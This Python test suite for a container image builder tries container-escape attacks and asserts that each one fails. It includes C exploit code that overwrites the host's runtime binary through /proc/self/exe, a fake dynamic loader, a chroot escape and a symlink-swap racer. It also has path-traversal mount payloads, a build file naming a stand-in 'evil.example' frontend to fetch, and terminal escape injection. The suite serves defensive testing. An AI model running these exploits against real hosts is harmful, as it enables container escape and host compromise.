"""Names that lead elsewhere: working directories, mounts, cache ids, programs, what a base image or a context holds."""
import hashlib
import json
import os
import pathlib
import signal
import socket
import stat
import subprocess
import tarfile

from support import mounts_below, wait_until
from support.attack import AttackCase, compile_c, content, link, member
from support.git import GitServer, Repository

# Opens the file that it was started from, again and again for writing, as another program that holds it only for
# reading: nothing keeps the file from being written to as soon as nobody executes it.
SPIN = """
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(int count, char **arguments) {
    char name[512] = {0};
    if (count == 1) {
        int fd = open("/proc/self/exe", O_RDONLY);
        if (fd < 0) return 1;
        dup2(fd, 9);
        execl("/spin", "/spin", "go", (char *)0);
        return 1;
    }
    if (readlink("/proc/self/fd/9", name, 511) > 0) { printf("holds %s\\n", name); fflush(stdout); }
    for (;;) {
        int fd = open("/proc/self/fd/9", O_WRONLY);
        if (fd >= 0) { write(fd, "PWNED", 5); puts("written"); fflush(stdout); return 0; }
    }
}
"""

# The loader that every dynamic program names: what is executed with it, it opens and hands to /spin.
LOADER = """
static long call(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
void _start(void) {
    static const char exe[] = "/proc/self/exe", spin[] = "/spin", go[] = "go";
    const char *arguments[] = {spin, go, 0};
    long fd = call(2, (long)exe, 0, 0);
    call(33, fd, 9, 0);
    call(59, (long)spin, (long)arguments, 0);
    call(231, 1, 0, 0);
}
"""


class Executable(AttackCase):
    """/proc/self/exe of a step that is about to begin (CVE-2019-5736)."""

    def setUp(self):
        super().setUp()
        self.program("spin", SPIN)
        source = self.directory / "loader.c"
        source.write_text(LOADER)
        subprocess.run(["gcc", "-O1", "-static", "-nostdlib", "-fno-stack-protector", "-no-pie",
                        "-Wl,-Ttext-segment=0x30000000", "-o", self.directory / "loader", source], check=True)
        self.files({"lib64/ld-linux-x86-64.so.2": (self.directory / "loader").read_bytes(),
                    "script": "#!/proc/self/exe\n"})
        for name in ("lib64/ld-linux-x86-64.so.2", "script", "spin"):
            (self.context / name).chmod(0o755)
        # A copy, so that the others' program survives.
        self.copy = self.host / "swbuild"
        self.copy.write_bytes(pathlib.Path(os.environ["SWBUILD"]).read_bytes())
        self.copy.chmod(0o755)
        self.before = self.look()

    def test_the_builders_own_program_is_never_the_steps(self):
        setup = "FROM busybox\nCOPY lib64 /lib64\nCOPY script spin /\n"
        # By its name, through a link, as a script's interpreter, and through what a script's interpreter links to.
        for step in ('RUN ["/proc/self/exe", "--version"]', 'RUN ["/proc/thread-self/exe", "--version"]',
                     'RUN ["/script"]', 'RUN ln -s /proc/self/exe /exe\nRUN ["/exe", "build"]',
                     'SHELL ["/proc/self/exe", "-c"]\nRUN build .',
                     'RUN printf "#!/exe\\n" > /s; chmod 755 /s; ln -s /proc/self/exe /exe\nRUN ["/s"]'):
            with self.subTest(step=step):
                arguments, _, _ = self.arguments(setup + step + "\n")
                process = subprocess.Popen([self.copy, *arguments], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                           stderr=subprocess.STDOUT, start_new_session=True,
                                           env={**os.environ, "SWBUILD_ROOT": str(self.state)})
                self.addCleanup(self._end, process)
                try:
                    text = process.communicate(timeout=10)[0].decode()
                except subprocess.TimeoutExpired:
                    process.send_signal(signal.SIGKILL)
                    text = process.communicate()[0].decode()
                self.assertNotIn(str(self.copy), text)
                self.assertNotIn("holds ", text)
                self.assertEqual(self.copy.read_bytes()[:4], b"\x7fELF")
                self.assertNotEqual(process.returncode, 0)


class WorkingDirectories(AttackCase):
    """Descriptors and directories of the host that a step could be started in (CVE-2024-21626)."""

    def test_descriptors_as_working_directories(self):
        for number in (0, 1, 2, *range(3, 16)):
            for form in (f"/proc/self/fd/{number}", f"/proc/thread-self/fd/{number}/../../..", f"/proc/1/fd/{number}"):
                if number > 6 and not form.endswith(f"self/fd/{number}"):
                    continue
                built = self.attack(f"FROM busybox\nWORKDIR {form}\nRUN pwd; cat secret ../secret host/secret "
                                    "../../../../../../../../tmp/*/host/secret; echo x > canary; ls; true\n")
                self.assertNotIn("layers", built.stderr.splitlines()[-1] if built.stderr else "")

    def test_links_as_working_directories(self):
        for target in ("/proc/self/fd/7", "/proc/self/cwd", "/proc/1/root", "/proc/self/root", str(self.host),
                       f"../../../../../../..{self.host}"):
            text = (f"FROM busybox\nRUN ln -s {target} /w\nWORKDIR /w\nRUN pwd; cat secret; echo x > canary; true\n")
            self.attack(text)
        flag = self.image("evil", link("w", "/proc/self/fd/8"), link("v", str(self.host)))
        self.attack("FROM evil\nWORKDIR /w\nRUN cat secret; echo x > canary\n", flag)
        self.attack("FROM evil\nWORKDIR /v\nRUN cat secret; echo x > canary\n", flag)
        self.attack("FROM evil\nWORKDIR /v/made\nCOPY . .\n", flag)

    def test_escape_from_a_change_of_root(self):
        self.program("escape", """
            #define _GNU_SOURCE
            #include <fcntl.h>
            #include <stdio.h>
            #include <sys/stat.h>
            #include <unistd.h>
            int main(void) {
                mkdir("/jail", 0755);
                int root = open("/", O_RDONLY);
                chroot("/jail");
                fchdir(root);
                for (int i = 0; i < 200; i++) chdir("..");
                chroot(".");
                execl("/bin/sh", "sh", "-c", "ls / > /out; ls /tmp >> /out", (char *)0);
                return 1;
            }""")
        lines = self.lines("FROM busybox\nCOPY escape /escape\nRUN /escape\n")
        self.assertIn("escape", lines)
        self.assertNotIn(self.directory.name, lines)


class Mounts(AttackCase):
    """Sources and options of mounts that the build file chooses."""

    def test_cache_ids_are_no_paths(self):
        """CVE-2024-9675."""
        for name in (f"../../../../../../../..{self.host}", str(self.host), "..", ".", "a/../../b", "x" * 3000,
                     f"${{PWD}}{self.host}", "new", "data"):
            built = self.attack(f"FROM busybox\nRUN --mount=type=cache,target=/c,id={name} "
                                "cat /c/secret; echo x > /c/canary; ls -a /c\n")
            self.assertNotIn("secret", [line.split("| ")[-1] for line in built.stderr.splitlines()])
        caches = {path.name for path in (self.state / "cache-mounts").iterdir()}
        self.assertTrue(all(len(name) == 64 for name in caches), caches)

    def test_sources_lead_nowhere_outside(self):
        """CVE-2024-1753: a source in a stage, a context, an image, a cache's first content."""
        os.symlink(self.host, self.context / "link")
        os.symlink(f"../../../../../../../..{self.host}", self.context / "relative")
        os.symlink("/", self.context / "root")
        stage = (f"FROM busybox AS s\nRUN ln -s {self.host} /link; ln -s ../../../../../..{self.host} /relative; "
                 "ln -s / /root2; ln -s /proc/self/root /proc-root; ln -s /proc/1/root/ /dir\n")
        flag = self.image("evil", link("link", str(self.host)), link("relative", f"../../../..{self.host}"),
                          link("root2", "/"))
        for begin, source in ((stage, "from=s,"), ("", "from=evil,"), ("", "")):
            for path in ("link", "relative", "root", "root2", "proc-root", "dir", f"../../../../..{self.host}", "..",
                         "/", str(self.host), "link/../secret", "root2/proc/1/root"):
                for kind in ("bind", "bind,rw", "cache"):
                    if kind == "cache" and not source:
                        continue
                    self.attack(f"{begin}FROM busybox\nRUN --mount=type={kind},{source}source={path},target=/m "
                                f"cat /m /m/secret /m{self.host}/secret; ls /m/; "
                                f"(echo x > /m/secret; echo x > /m/dir/file; rm -rf /m{self.host}/*; "
                                f"rm -rf /m/dir) 2>/dev/null; true\n", flag)

    def test_writes_to_bind_mounts_are_thrown_away(self):
        """CVE-2025-4953, CVE-2024-11218."""
        self.files({"sub/file": "as it was\n", "sub/dir/other": "as it was\n"})
        os.chown(self.context / "sub", 1000, 1000)
        before = {path: (path.lstat().st_mtime_ns, path.lstat().st_mode, path.lstat().st_uid)
                  for path in self.context.rglob("*")}
        for options in ("", ",rw", ",readwrite=true"):
            self.attack(f"FROM busybox\nRUN --mount=type=bind,target=/m{options} echo x > /m/sub/file; rm -rf /m/sub; "
                        "touch /m/new; chmod 777 /m/sub/dir /m; chown 5 /m/sub; true\n", expect=0)
        after = {path: (path.lstat().st_mtime_ns, path.lstat().st_mode, path.lstat().st_uid)
                 for path in self.context.rglob("*")}
        self.assertEqual(before, after)
        self.assertEqual((self.context / "sub/file").read_text(), "as it was\n")
        stage = "FROM busybox AS s\nRUN mkdir /d; echo one > /d/file\nFROM busybox\n"
        run = ("RUN --mount=from=s,source=/d,target=/m,rw echo two > /m/file; rm -f /m/file\n"
               "RUN --mount=from=s,source=/d,target=/m cat /m/file > /out\n")
        self.assertEqual(self.lines(stage + run), ["one"])

    def test_options_are_a_closed_list(self):
        """CVE-2024-9407: nothing of a mount's options gets to the kernel as it stands."""
        for option in ("bind-propagation=rshared", "propagation=shared", "rshared", "z", "Z", "U", "suid", "dev",
                       "exec", "relabel=shared", "private", "O", "upperdir=/tmp/x", "idmap", "bind-nonrecursive=false",
                       "source=/,target=/x", "ro,target=/y,dev=1"):
            built = self.attack(f"FROM busybox\nRUN --mount=type=bind,target=/m,{option} ls /m/..\n")
            if option not in ("source=/,target=/x", "private"):
                self.assertNotEqual(built.status, 0, option)
        for value in ("size=1,uid=0", "size=9999999999999999999", "size=-1", "size=1k,mode=7777,dev"):
            self.attack(f"FROM busybox\nRUN --mount=type=tmpfs,target=/m,{value} true\n")
        built = self.attack("FROM busybox\nARG X=tmpfs,size=1k\nRUN --mount=type=bind,target=/m,source=$X ls /m\n")
        self.assertNotEqual(built.status, 0)

    def test_mount_points_leave_no_trace_and_delete_nothing(self):
        """CVE-2024-23652: what is removed of mount points is never found by a path that the step could change."""
        script = (f"rm -rf /a 2>/dev/null; rm -rf /x; mkdir -p /x; ln -s {self.host}/dir /x/y; ln -sfn {self.host} /b; "
                  "rm -rf /etc/hosts; mv /etc /etc2 2>/dev/null; ln -s / /etc; true")
        for target in ("/x/y/z", "/x/y", "/a/b/c", "/b/dir", "/etc/deep/er"):
            built = self.attack(f"FROM busybox\nRUN --mount=type=tmpfs,target={target} {script}\n", expect=0)
            self.assertNotIn("/x/y/z", built.layout.tree)
            self.assertNotIn("/a", built.layout.tree)
        # The links are the step's own doing, and stay links.
        self.assertEqual(built.layout.tree["/b"]["type"], "symlink")

    def test_mount_points_below_links(self):
        for place in (str(self.host), f"../../../../..{self.host}", "/proc/self/root", "/proc/1/root", "/dev/fd/3"):
            flag = self.image(f"evil{abs(hash(place))}", link("place", place))
            name = flag.split("=")[1]
            self.attack(f"FROM {name}\nRUN --mount=type=tmpfs,target=/place/dir touch /place/dir/new; ls -R /place/\n",
                        flag)
            self.attack(f"FROM {name}\nRUN --mount=type=secret,id=s,target=/place/secret cat /place/secret | wc -c\n",
                        flag, "--secret", "id=s,env=HOME")
            self.attack(f"FROM {name}\nRUN --mount=type=cache,target=/place touch /place/new\n", flag)

    def test_the_agents_socket_keeps_its_owner_and_mode(self):
        agent = self.host / "agent"
        server = socket.socket(socket.AF_UNIX)
        self.addCleanup(server.close)
        server.bind(str(agent))
        server.listen(4)
        agent.chmod(0o600)
        self.before = self.look()
        self.attack("FROM busybox\nRUN --mount=type=ssh chmod 777 $SSH_AUTH_SOCK; chown 7 $SSH_AUTH_SOCK; "
                    "rm -f $SSH_AUTH_SOCK; touch -d @1 $SSH_AUTH_SOCK; true\n", "--ssh", f"default={agent}")
        self.assertEqual(stat.S_IMODE(agent.stat().st_mode), 0o600)
        self.assertEqual(agent.stat().st_uid, 0)

    def test_programs_with_rights_stay_where_nobody_else_gets(self):
        """A set-user-ID program in a cache or a layer is one on the host, too: others must not get there."""
        self.attack("FROM busybox\nRUN --mount=type=cache,target=/c cp /bin/busybox /c/su; chmod 4755 /c/su; "
                    "cp /bin/busybox /su; chmod 4755 /su\n", expect=0)
        self.assertTrue(list((self.state / "cache-mounts").rglob("su")))
        # The test's own directory is nobody else's either; that must not be what keeps them out.
        self.directory.chmod(0o755)
        for path in (self.state / "layers", self.state / "cache-mounts", self.state / "tmp", self.state / "logs"):
            done = subprocess.run(["ls", path], capture_output=True, check=False, user=65534, group=65534)
            self.assertNotEqual(done.returncode, 0, f"{path} can be entered by anybody")


class Policy(AttackCase):
    """Other ways to a step, which the same rules must hold for (CVE-2024-23653, GHSA-7236-3392-c5c6)."""

    def test_the_file_cannot_loosen_the_sandbox(self):
        for text in ("RUN --security=insecure true", "RUN --network=host true", "RUN --security=INSECURE true",
                     "ARG S=insecure\nRUN --security=$S true", "ARG N=host\nRUN --network=$N true",
                     "RUN --device=/dev/sda true", "RUN --privileged true", "RUN --cap-add=ALL true",
                     "ONBUILD RUN --security=insecure true\nRUN --security=insecure true"):
            built = self.attack(f"FROM busybox\n{text}\n")
            self.assertNotEqual(built.status, 0, text)

    def test_neither_can_a_base_image(self):
        layout = self.directory / "image-evil"
        flag = self.image("evil", member("x"))
        index = json.loads((layout / "index.json").read_text())
        blobs = layout / "blobs/sha256"

        def replace(old: dict, document: dict) -> dict:
            data = json.dumps(document).encode()
            digest = hashlib.sha256(data).hexdigest()
            (blobs / digest).write_bytes(data)
            return {**old, "digest": f"sha256:{digest}", "size": len(data)}
        entry = index["manifests"][0]
        manifest = json.loads((blobs / entry["digest"][7:]).read_text())
        config = json.loads((blobs / manifest["config"]["digest"][7:]).read_text())
        for settings in ({"OnBuild": ["RUN --security=insecure true"]}, {"OnBuild": ["RUN --network=host true"]},
                         {"OnBuild": [f"RUN --mount=type=bind,source=../../..{self.host},target=/m cat /m/secret"]},
                         {"OnBuild": [f"ADD {self.host}/secret /s"]}, {"OnBuild": [f"COPY ../{self.host}/secret /s"]},
                         {"WorkingDir": "/proc/self/fd/8"}, {"WorkingDir": f"../..{self.host}"}, {"User": "0:0:0"},
                         {"User": "-1"}, {"Env": ["LD_PRELOAD=/x", "PATH=/proc/self/exe:/bin"]},
                         {"Shell": ["/proc/self/exe"]}, {"Volumes": {str(self.host): {}}}):
            config["config"] = {"Env": ["PATH=/bin"], **settings}
            manifest["config"] = replace(manifest["config"], config)
            index["manifests"][0] = replace(entry, manifest)
            (layout / "index.json").write_text(json.dumps(index))
            built = self.attack("FROM evil\nRUN cat secret; true\n", flag)
            if "insecure" in str(settings) or "network" in str(settings):
                self.assertNotEqual(built.status, 0, settings)

    def test_no_frontend_is_loaded(self):
        """CVE-2026-33747: a `syntax` line names a language, and nothing is fetched or run for it."""
        built = self.attack("# syntax=evil.example/frontend:latest\nFROM busybox\nRUN echo on > /out\n", expect=1)
        self.assertMentions(built, "evil.example/frontend:latest", "cannot run")
        built = self.attack("# syntax=docker/dockerfile:1\nFROM busybox\nRUN echo on > /out\n", expect=0)
        self.assertEqual(content(built.layout, "out"), "on\n")

    def test_directories_of_a_repository(self):
        """CVE-2026-33748: `#ref:directory` of a repository that has a link there."""
        repositories = self.directory / "repositories"
        repositories.mkdir()
        repository = Repository(repositories / "r.git", {"a": "a\n"})
        for name, target in {"out": str(self.host), "up": f"../../../../../../../..{self.host}", "git": ".git",
                             "secret": str(self.host / "secret"), "Dockerfile": str(self.host / "secret"),
                             "proc": "/proc/self/root"}.items():
            os.symlink(target, repository.path / name)
        repository.commit({"b": "b\n"})
        server = GitServer(repositories, None)
        self.addCleanup(server.close)
        url = f"{server.base}/r.git"
        for place in ("out", "up", "git", "..", "../..", f"../../../../..{self.host}", "proc", "secret", str(self.host),
                      "up/dir", "a/../out"):
            self.attack(f"FROM busybox\nADD {url}#main:{place} /m\nRUN cat /m/secret /m; true\n")
            self.run_swbuild("build", f"{url}#main:{place}")
        done = self.run_swbuild("build", url)
        self.assertNotIn("top secret", done.stdout + done.stderr)
        self.assertNotEqual(done.status, 0)


class Races(AttackCase):
    """A name that is a directory when it is looked at, and a link when it is used."""

    SWAP = """
        #define _GNU_SOURCE
        #include <sys/syscall.h>
        #include <unistd.h>
        int main(int count, char **arguments) {
            if (chdir(arguments[1]) != 0) return 1;
            for (;;) syscall(SYS_renameat2, -100, "d", -100, "l", 2);
        }"""

    def swap(self) -> subprocess.Popen:
        """Makes `context/d` a directory and a link to the host's, in turn, until the test ends."""
        self.files({"d/secret": "harmless\n", "d/dir/file": "harmless\n", "d/dir/sub/deep": "harmless\n"})
        self.files({f"d/many/{number}": "harmless\n" for number in range(200)})
        os.symlink(self.host, self.context / "l")
        program = self.directory / "swap"
        program.write_bytes(compile_c(self.SWAP))
        program.chmod(0o755)
        process = subprocess.Popen([program, self.context])
        self.addCleanup(process.wait)
        self.addCleanup(process.kill)
        return process

    def test_copy_of_a_name_that_changes(self):
        process = self.swap()
        done = set()
        for line in ("COPY d /d", "COPY d/secret d/s*t /e/", "COPY . /all", "ADD d/dir/file /f", "COPY d/dir/sub /s",
                     "COPY --parents d/dir/*/deep /p/"):
            for _ in range(8):
                done.add(self.attack(f"FROM scratch\n{line}\n", "--no-cache").status)
        self.assertLessEqual(done, {0, 1})
        self.assertIsNone(process.poll())

    def test_a_mount_of_a_name_that_changes(self):
        process = self.swap()
        done = set()
        for options in ("source=d", "source=d/dir/sub", "source=d,rw", "source=.,rw"):
            for _ in range(6):
                done.add(self.attack(
                    f"FROM busybox\nRUN --mount=type=bind,{options},target=/m cat /m/secret /m/d/secret; ls /m; "
                    "echo x > /m/d/secret; echo x > /m/deep; rm -rf /m/d/dir; true\n", "--no-cache").status)
        self.assertLessEqual(done, {0, 1})
        self.assertIsNone(process.poll())

    def test_two_steps_that_share_a_cache(self):
        """CVE-2024-23651, CVE-2025-52881: one step changes what another one's mounts stand on."""
        self.program("swap", self.SWAP)
        process, _, _ = self.start(
            "FROM busybox\nCOPY swap /swap\nRUN --mount=type=cache,id=c,target=/c mkdir -p /c/d/sub; "
            f"ln -sfn {self.host} /c/l; touch /c/ready; exec /swap /c\n")

        def is_swapping():
            """the cache to be ready"""
            self.assertIsNone(process.poll(), "the build ended early")
            return list((self.state / "cache-mounts").glob("*/data/ready"))
        wait_until(is_swapping)
        done = set()
        for number in range(40):
            # Mount points inside the cache are looked up, and made, while the names change.
            done.add(self.attack(
                "FROM busybox\nRUN --mount=type=cache,id=c,target=/c "
                f"--mount=type=tmpfs,target=/c/d/m{number} --mount=type=secret,id=s,target=/c/d/sub/k{number} "
                f"echo {number} > /c/d/m{number}/x; echo x > /c/d/sub/new; cat /c/d/secret; true\n",
                "--secret", "id=s,env=CANARY", env={"CANARY": "top secret"}).status)
        self.assertLessEqual(done, {0, 1})
        self.assertIsNone(process.poll())
        process.kill()
        process.wait()
        wait_until(lambda: not mounts_below(self.directory))

    def test_mounts_of_a_stage_in_parallel(self):
        """CVE-2024-11218: two steps that write to mounts of the same stage do not see each other."""
        text = "FROM busybox AS s\nRUN mkdir -p /d/e; echo one > /d/e/f\n"
        for number in range(4):
            text += (f"FROM busybox AS u{number}\nRUN --mount=from=s,source=/d,target=/m,rw mv /m/e /m/g; "
                     f"ln -s {self.host} /m/e; echo {number} >> /m/g/f; echo x > /m/e/new; "
                     "head -n 1 /m/g/f > /n\n")
        text += "FROM scratch\n" + "".join(f"COPY --from=u{n} /n /n{n}\n" for n in range(4))
        built = self.attack(text, "--jobs", "4", expect=0)
        for number in range(4):
            self.assertEqual(content(built.layout, f"n{number}"), "one\n")


class Outputs(AttackCase):
    """What is written outside of the state directory goes where the caller says."""

    def test_a_directory_that_had_links_before(self):
        output = self.directory / "local"
        self.attack(f"FROM busybox\nRUN ln -s {self.host} /d; ln -s {self.host}/secret /f\n",
                    "-o", f"type=local,dest={output}", expect=0)
        self.attack("FROM busybox\nRUN mkdir -p /d/dir; echo x > /d/secret; echo x > /d/dir/file; echo x > /f\n",
                    "-o", f"type=local,dest={output}", expect=0)
        self.assertEqual((output / "f").read_text(), "x\n")

    def test_names_of_tags_and_stages(self):
        for name in ("../../evil", f"{self.host}/evil", "a/../../b", "x" * 300):
            arguments, _, _ = self.arguments("FROM scratch\nCOPY . /\n")
            arguments = [name if argument == "test:latest" else argument for argument in arguments]
            done = self.run_swbuild(*arguments)
            self.assertNotIn("Fatal", done.stderr)
        self.attack(f"FROM busybox AS ../../..{self.host}\nRUN true\n")

    def test_escape_sequences_of_a_step(self):
        """What a step prints may not take over the caller's terminal, or look like another step's words."""
        built = self.attack("FROM busybox\nRUN printf '\\033]52;c;ZXZpbA==\\007\\033[2J\\033[1;1H#9 DONE\\r#8 DONE\\n'\n",
                            expect=0)
        self.assertNotIn("\033", built.stderr)
        self.assertNotIn("\007", built.stderr)
